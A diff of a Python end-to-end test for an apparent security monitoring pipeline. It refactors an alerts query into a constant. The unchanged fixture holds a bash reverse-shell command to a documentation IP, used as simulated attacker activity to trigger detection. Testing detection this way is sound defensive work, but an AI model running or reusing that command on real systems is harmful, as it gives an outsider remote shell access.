@@ -154,6 +154,7 @@ ACTION = {
     "process_command_line": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
 }
 # What comes of it, wherever it lies.
+THE_ALERT = "SELECT alert_id FROM tacho.alerts WHERE agent_id = 'bot'"
 COMES = ("actions", "signals", "alerts", "agent_state", "directives", "incidents", "tree_heads")
 
 
@@ -265,7 +266,7 @@ def test_under_them_every_stage_does_its_work_people_theirs_and_nobody_does_more
 
         for table in COMES:
             eventually(partial(has, table), f"something in {table}")
-        [(alert_id,)] = reader.rows("SELECT alert_id FROM tacho.alerts")
+        [(alert_id,)] = reader.rows(THE_ALERT)
     eventually(lambda: bool(webhook.requests), "the alert is forwarded")
     staff.run("operator", "alert", "note", alert_id, "looked at")
     with Connection(ClickHouseSettings(url=clickhouse.url), reads_only=True) as reader:
